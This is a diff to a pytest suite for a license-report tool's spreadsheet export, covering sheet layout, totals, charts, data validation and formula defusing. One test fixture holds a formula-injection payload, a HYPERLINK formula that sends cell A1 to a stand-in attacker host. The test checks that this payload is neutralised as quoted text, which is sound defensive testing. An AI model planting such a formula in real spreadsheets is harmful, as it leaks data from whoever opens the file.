@@ -12,6 +12,7 @@ import pytest
 from licsweep import reports
 from licsweep.errors import OutputError, UsageError
 from licsweep.reports.defuse import is_formula_like
+from licsweep.reports.xlsx import sheet_name
 
 KINDS = tuple(reports.KINDS)
 
@@ -27,35 +28,59 @@ def sheets(report, folder):
 
 
 def test_xlsx_holds_every_table_typed(report, tmp_path):
+    """One sheet a question, the most important first; what is not known is an empty cell with a note."""
     book = sheets(report, tmp_path)
-    assert book.sheetnames == ["about", *(table.name for table in report.of("files"))]
-    for table in report.of("files"):
-        sheet = book[table.name]
+    names = [sheet_name(table) for table in report.of("files")]
+    assert book.sheetnames == [names[0], "About", *names[1:]]
+    for table, name in zip(report.of("files"), names, strict=True):
+        sheet = book[name]
         assert sheet.freeze_panes == "B2"
         assert sheet.auto_filter.ref.startswith("A1:")
-        assert [cell.value for cell in sheet[1]] == [column.heading for column in table.columns]
-        assert sheet.max_row == len(table.rows) + 1
-        for row, cells in zip(table.rows, sheet.iter_rows(min_row=2), strict=True):
+        assert [cell.value for cell in sheet[1]][: len(table.columns)] == [column.heading for column in table.columns]
+        totals = bool(table.totals and table.rows)
+        assert sheet.max_row == len(table.rows) + 1 + totals
+        rows = sheet.iter_rows(min_row=2, max_row=len(table.rows) + 1, max_col=len(table.columns))
+        for row, cells in zip(table.rows, rows, strict=bool(table.rows)):
             for value, cell, column in zip(row, cells, table.columns, strict=True):
                 assert cell.data_type != "f"
                 assert cell.hyperlink is None
                 if value is None:
-                    assert cell.value == column.missing
+                    assert (cell.value, cell.comment.text) == (None, column.missing)
                 elif isinstance(value, datetime):
                     assert cell.value == value.replace(tzinfo=None)
-                elif isinstance(value, bool | int) and column.kind != "days":
+                elif column.kind == "percent":
+                    assert (cell.value, cell.number_format) == (pytest.approx(value / 100), "0.0%")
+                elif isinstance(value, bool | int):
                     assert (type(cell.value), cell.value) == (type(value), value)
 
 
+def test_xlsx_totals_follow_the_filter_and_a_chart_stands_beside(given, tmp_path):
+    sheet = sheets(given.report("usage"), tmp_path)["Pools"]
+    heads = [cell.value for cell in sheet[1]]
+    total = sheet.cell(sheet.max_row, heads.index("Shortage") + 1)
+    assert total.value == "=SUBTOTAL(109,C2:C6)"
+    assert len(sheet._charts) == 1
+    assert any("C2" in str(where.sqref) for where in sheet.conditional_formatting)
+
+
+def test_xlsx_actions_are_filled_in_by_people(given, tmp_path):
+    book = sheets(given.report("actions"), tmp_path)
+    assert book.sheetnames[0] == "What to do"
+    sheet = book["What to do"]
+    heads = [cell.value for cell in sheet[1]]
+    assert {"Owner", "State (fill in)"} < set(heads)
+    assert [rule.formula1 for rule in sheet.data_validations.dataValidation] == ['"open,in progress,done,not to do"']
+
+
 def test_xlsx_hostile_texts_are_quoted_strings(given, tmp_path):
-    cells = [cell for row in sheets(given.report("usage"), tmp_path)["pools"].iter_rows(min_row=2) for cell in row]
-    hostile = [cell for cell in cells if isinstance(cell.value, str) and is_formula_like(cell.value)]
+    cells = [cell for row in sheets(given.report("usage"), tmp_path)["Pools"].iter_rows(min_row=2) for cell in row]
+    hostile = [cell for cell in cells if cell.data_type == "s" and is_formula_like(cell.value)]
     assert [cell.value for cell in hostile] == ['=HYPERLINK("http://evil.example/?x="&A1,"Core")']
     assert all(cell.data_type == "s" and cell.quotePrefix for cell in hostile)
 
 
 def test_xlsx_cover_carries_the_statement(report, tmp_path):
-    words = [cell.value for row in sheets(report, tmp_path)["about"].iter_rows() for cell in row]
+    words = [cell.value for row in sheets(report, tmp_path)["About"].iter_rows() for cell in row]
     assert report.headline in words
     assert report.statement in words
     assert words.index("Coverage") < words.index(report.headline)
@@ -66,7 +91,7 @@ def test_xlsx_year_before_excel_is_text(given, tmp_path):
     table = report.main_table
     row = tuple(datetime(1066, 10, 14) if column.key == "cssm_as_of" else None for column in table.columns)
     report = replace(report, tables=(replace(table, rows=(row,)),))
-    assert "1066-10-14 00:00" in [cell.value for cell in sheets(report, tmp_path)["pools"][2]]
+    assert "1066-10-14 00:00" in [cell.value for cell in sheets(report, tmp_path)["Pools"][2]]
 
 
 def test_csv_in_a_folder_is_one_file_a_table(report, tmp_path):
